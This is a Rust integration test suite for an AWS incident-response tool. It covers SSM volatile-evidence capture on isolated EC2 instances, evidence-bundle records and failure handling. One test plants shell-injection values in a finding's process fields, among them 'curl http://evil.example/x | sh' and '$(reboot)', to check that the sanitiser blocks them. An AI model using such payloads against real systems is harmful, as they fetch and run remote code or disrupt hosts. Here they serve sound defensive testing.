//! `ec2.capture_volatile` against moto (SSM `SendCommand`/`GetCommandInvocation`, S3, EC2):
//! the command goes to the contained instance, with AWS's shell document and the bundle's
//! `volatile/ssm` prefix, only once isolation has run, and its record is in the manifest;
//! a failed, stuck or refused command is that step's outcome while the instance is isolated
//! and tagged quarantined; disabled, nothing is sent; a hostile finding cannot reach the
//! shell. moto answers every invocation `Success` at once, so the other statuses come from
//! the fault proxy.

use integration_tests::evidence_bucket::{
    download_from, evidence_bucket, outcome, reported_sha, s3_client,
};
use integration_tests::proxy::Proxy;
use integration_tests::world::{self, Aws, Instance, Network, show};
use responder::Config;
use responder::actions::ec2::Ec2Executor;
use responder::evidence::verify_dir;
use responder::execute::Executor;
use responder::options::{EvidenceOptions, IsolationOptions, VolatileCapture};
use responder::outcome::{Outcome, Status, any_failed};
use responder::plan::{ActionKind, ResponsePlan};
use std::time::{Duration, Instant};

const REGION: &str = "us-east-1";
const SAMPLE: &str = "ec2-defense-evasion-kernel-module.json";

fn capture(timeout_seconds: u64) -> VolatileCapture {
    VolatileCapture {
        enabled: true,
        timeout_seconds,
        max_pids: 16,
    }
}

fn config(vc: VolatileCapture) -> Config {
    let mut c = Config::default();
    c.ec2.volatile_capture = vc;
    c.isolation = IsolationOptions {
        keep_ssm_endpoints: true,
    };
    c
}

struct Rig {
    direct: Aws,
    net: Network,
    inst: Instance,
    bucket: String,
    opts: EvidenceOptions,
    plan: ResponsePlan,
}

/// A world with an instance, an evidence bucket and the plan of `event` (the sample,
/// edited by `edit`) under `vc`.
async fn rig(name: &str, vc: VolatileCapture, edit: impl Fn(&mut serde_json::Value)) -> Rig {
    let direct = Aws::moto(REGION).await;
    let net = world::network(&direct).await;
    let inst = world::one_eni_instance(&direct, &net).await;
    let (bucket, key_arn) = evidence_bucket(&direct.config, name).await;
    let fid = world::unique_finding_id();
    let event = world::finding_event(SAMPLE, &fid, &net.region, &inst, Some(&net.vpc_id));
    let mut doc: serde_json::Value = serde_json::from_slice(&event).unwrap();
    edit(&mut doc);
    let plan = world::contain_plan(&serde_json::to_vec(&doc).unwrap(), &config(vc));
    let opts = EvidenceOptions {
        bucket: Some(bucket.clone()),
        bucket_region: Some(REGION.into()),
        kms_key_id: Some(key_arn),
        ..EvidenceOptions::default()
    };
    Rig {
        direct,
        net,
        inst,
        bucket,
        opts,
        plan,
    }
}

fn executor(aws: &Aws, r: &Rig, vc: VolatileCapture) -> Ec2Executor {
    Ec2Executor::new(&aws.config)
        .with_isolation(config(vc.clone()).isolation)
        .with_evidence(&r.opts)
        .with_volatile_capture(vc)
}

fn ssm(aws: &Aws) -> aws_sdk_ssm::Client {
    aws_sdk_ssm::Client::new(&aws.config)
}

/// Whether the plan holds the capture.
fn planned(r: &Rig) -> bool {
    r.plan
        .actions
        .iter()
        .any(|a| a.kind == ActionKind::Ec2CaptureVolatile)
}

/// Runs the plan through a fault proxy (after `fault`) with an executor configured for
/// `vc`; the containment must stand whatever the capture does.
async fn run_via_proxy(
    r: &Rig,
    vc: VolatileCapture,
    fault: impl FnOnce(&Proxy),
) -> (Proxy, Vec<Outcome>) {
    let proxy = Proxy::start(&integration_tests::moto::shared().endpoint()).await;
    let via = Aws::at(&proxy.endpoint(), REGION).await;
    fault(&proxy);
    let outcomes = executor(&via, r, vc).execute(&r.plan).await;
    still_contained(r, &outcomes).await;
    (proxy, outcomes)
}

/// The one SendCommand request the proxy saw, as sent.
fn sent_command(proxy: &Proxy) -> serde_json::Value {
    let sent: Vec<_> = proxy
        .calls()
        .into_iter()
        .filter(|c| c.action == "SendCommand")
        .collect();
    assert_eq!(sent.len(), 1, "one command");
    serde_json::from_str(&sent[0].body).expect("a JSON request")
}

fn prefix(r: &Rig) -> String {
    format!(
        "evidence/{}/{}/{}/",
        r.plan.account_id, r.plan.finding_id, r.inst.id
    )
}

/// The containment stands: isolated, tagged quarantined, nothing failed but collection.
async fn still_contained(r: &Rig, outcomes: &[Outcome]) {
    assert!(!any_failed(outcomes), "{}", show(outcomes));
    for kind in [ActionKind::Ec2IsolateNetwork, ActionKind::Ec2TagInstance] {
        assert_eq!(
            outcome(outcomes, kind).status,
            Status::Done,
            "{}",
            show(outcomes)
        );
    }
    assert_eq!(
        world::tags(&r.direct, &r.inst.id).await["guardduty-responder:status"],
        "quarantined"
    );
    let _ = &r.net;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_command_goes_to_the_instance_after_isolation_and_its_record_is_in_the_manifest() {
    let r = rig("vc-ok", capture(10), |_| {}).await;
    assert!(planned(&r), "planned when enabled");
    let (proxy, outcomes) = run_via_proxy(&r, capture(10), |_| {}).await;
    let step = outcome(&outcomes, ActionKind::Ec2CaptureVolatile);
    assert_eq!(step.status, Status::Done, "{step:?}");

    // Sent once isolation had run: after the last group swap answered.
    let calls = proxy.calls();
    let swapped = calls
        .iter()
        .filter(|c| c.action == "ModifyNetworkInterfaceAttribute")
        .map(|c| c.end)
        .max()
        .expect("isolation swapped groups");
    let sent: Vec<_> = calls.iter().filter(|c| c.action == "SendCommand").collect();
    assert_eq!(sent.len(), 1, "one command");
    assert!(
        sent[0].start >= swapped,
        "SendCommand before isolation ended"
    );

    // What was sent (as the proxy saw it: moto's ListCommands adds every instance of the
    // region to a command without targets): AWS's shell document, to this instance only,
    // output under the bundle.
    let sent = sent_command(&proxy);
    assert_eq!(sent["DocumentName"], "AWS-RunShellScript");
    assert_eq!(sent["InstanceIds"], serde_json::json!([r.inst.id]));
    assert_eq!(sent["OutputS3BucketName"], r.bucket.as_str());
    let want_prefix = format!("{}volatile/ssm", prefix(&r));
    assert_eq!(sent["OutputS3KeyPrefix"], want_prefix.as_str());
    let script = sent["Parameters"]["commands"][0]
        .as_str()
        .unwrap()
        .to_owned();
    // The sample's process and its lineage.
    assert!(script.contains("for pid in 51877 51866 "), "{script}");
    assert!(
        script.contains("lsmod") && script.contains("sha256sum"),
        "{script}"
    );
    // moto's record of it, by the id the outcome reports.
    let listed = ssm(&r.direct)
        .list_commands()
        .instance_id(&r.inst.id)
        .send()
        .await
        .expect("ListCommands");
    let command = listed
        .commands()
        .iter()
        .find(|c| step.detail.contains(c.command_id().unwrap()))
        .unwrap_or_else(|| panic!("the reported command: {}", step.detail));
    let id = command.command_id().unwrap();
    assert_eq!(command.document_name(), Some("AWS-RunShellScript"));
    assert_eq!(command.output_s3_key_prefix(), Some(want_prefix.as_str()));
    assert!(step.detail.contains(&want_prefix), "{}", step.detail);

    // The bundle verifies and records the command (id, status, output prefix) and script.
    let bundle = outcome(&outcomes, ActionKind::EvidenceWriteBundle);
    assert_eq!(bundle.status, Status::Done, "{bundle:?}");
    let dir = download_from(&s3_client(&r.direct.config), &r.bucket, &prefix(&r), "vc").await;
    assert!(
        verify_dir(&dir, Some(&reported_sha(bundle)))
            .expect("readable")
            .is_ok()
    );
    let record: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.join("volatile/command.json")).unwrap()).unwrap();
    assert_eq!(record["command_id"], id);
    assert_eq!(record["status"], "Success");
    assert_eq!(record["instance_id"], r.inst.id.as_str());
    assert!(
        record["output"]
            .as_str()
            .unwrap()
            .starts_with(&format!("s3://{}/{want_prefix}/{id}/", r.bucket)),
        "{record}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("volatile/script.sh")).unwrap(),
        script
    );
}

/// What a case does to the proxy before the run.
type InjectFault = Box<dyn Fn(&Proxy)>;

/// GetCommandInvocation answered as AWS does for a command that ended badly.
fn invocation(status: &str, details: &str) -> String {
    serde_json::json!({
        "CommandId": "00000000-0000-0000-0000-000000000000",
        "InstanceId": "i-0",
        "DocumentName": "AWS-RunShellScript",
        "PluginName": "aws:runShellScript",
        "ResponseCode": 1,
        "Status": status,
        "StatusDetails": details,
        "StandardOutputContent": "",
        "StandardErrorContent": "sh: 1: ss: not found",
    })
    .to_string()
}

/// Each way the capture can fail is its own outcome (with why), recorded in the bundle as
/// a gap; isolation and the quarantined tag stand, and the wait is bounded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failed_stuck_or_refused_command_is_an_outcome_and_the_instance_stays_isolated() {
    let cases: [(&str, &str, InjectFault); 4] = [
        (
            "vc-failed",
            "Failed",
            Box::new(|p| {
                p.answer(
                    "GetCommandInvocation",
                    200,
                    &invocation("Failed", "Failed"),
                    None,
                )
            }),
        ),
        (
            "vc-stuck",
            "still InProgress after the time limit of 2s",
            Box::new(|p| {
                p.answer(
                    "GetCommandInvocation",
                    200,
                    &invocation("InProgress", "InProgress"),
                    None,
                )
            }),
        ),
        (
            "vc-denied",
            "GetCommandInvocation: AccessDeniedException",
            Box::new(|p| p.fail("GetCommandInvocation", 400, "AccessDeniedException", None)),
        ),
        (
            "vc-unsent",
            "no command sent: SendCommand: InvalidInstanceId",
            Box::new(|p| p.fail("SendCommand", 400, "InvalidInstanceId", None)),
        ),
    ];
    for (name, why, fault) in cases {
        let r = rig(name, capture(2), |_| {}).await;
        let started = Instant::now();
        let (_proxy, outcomes) = run_via_proxy(&r, capture(2), |p| fault(p)).await;
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "{name}: waited {:?}",
            started.elapsed()
        );
        let step = outcome(&outcomes, ActionKind::Ec2CaptureVolatile);
        assert_eq!(step.status, Status::Failed, "{name}: {step:?}");
        assert!(step.detail.contains(why), "{name}: {}", step.detail);
        // The bundle is written all the same, incomplete, the gap named.
        let bundle = outcome(&outcomes, ActionKind::EvidenceWriteBundle);
        assert_eq!(bundle.status, Status::Failed, "{name}: {bundle:?}");
        assert!(
            bundle.detail.contains("volatile/"),
            "{name}: {}",
            bundle.detail
        );
        let dir = download_from(&s3_client(&r.direct.config), &r.bucket, &prefix(&r), name).await;
        assert!(
            verify_dir(&dir, Some(&reported_sha(bundle)))
                .unwrap()
                .is_ok()
        );
        let gaps = std::fs::read_to_string(dir.join("collection-gaps.json")).unwrap();
        assert!(gaps.contains("volatile/"), "{name}: {gaps}");
        if name == "vc-failed" {
            // What SSM returned of the output is kept (hashed in the manifest).
            let stderr = std::fs::read_to_string(dir.join("volatile/stderr.txt")).unwrap();
            assert_eq!(stderr, "sh: 1: ss: not found");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn disabled_no_command_is_sent() {
    let r = rig("vc-off", VolatileCapture::default(), |_| {}).await;
    assert!(!planned(&r), "not planned when disabled");
    // Even an executor configured to capture runs only what the plan holds.
    let (proxy, outcomes) = run_via_proxy(&r, capture(2), |_| {}).await;
    assert!(
        outcomes
            .iter()
            .all(|o| o.kind != ActionKind::Ec2CaptureVolatile)
    );
    let ssm_calls: Vec<_> = proxy
        .calls()
        .into_iter()
        .filter(|c| c.action == "SendCommand" || c.action == "GetCommandInvocation")
        .collect();
    assert!(ssm_calls.is_empty(), "{ssm_calls:?}");
}

/// The workload names its own process: a name and PIDs that are shell, and a lineage of
/// them. Only the valid integer reaches the command; nothing of the text does.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_process_in_the_finding_cannot_inject_shell() {
    let r = rig("vc-hostile", capture(10), |doc| {
        let p = &mut doc["detail"]["service"]["runtimeDetails"]["process"];
        p["pid"] = "1; curl http://evil.example/x | sh".into();
        p["name"] = "$(reboot)".into();
        p["executablePath"] = "/tmp/`reboot`".into();
        p["lineage"] = serde_json::json!([
            {"pid": "$(reboot)", "name": "; reboot"},
            {"pid": 4242, "name": "\n reboot"},
            {"pid": -7}, {"pid": 99999999999_u64},
        ]);
    })
    .await;
    let (proxy, outcomes) = run_via_proxy(&r, capture(10), |_| {}).await;
    let step = outcome(&outcomes, ActionKind::Ec2CaptureVolatile);
    assert_eq!(step.status, Status::Done, "{step:?}");
    let sent = sent_command(&proxy).to_string();
    let script = sent_command(&proxy)["Parameters"]["commands"][0]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(script.contains("for pid in 4242; do"), "{script}");
    for bad in ["reboot", "curl", "evil", "`", "$("] {
        assert!(!script.contains(bad), "{bad} reached the shell:\n{script}");
        // Nor any other field of the command (its comment, its prefix).
        assert!(!sent.contains(bad), "{bad} in the request: {sent}");
    }
}
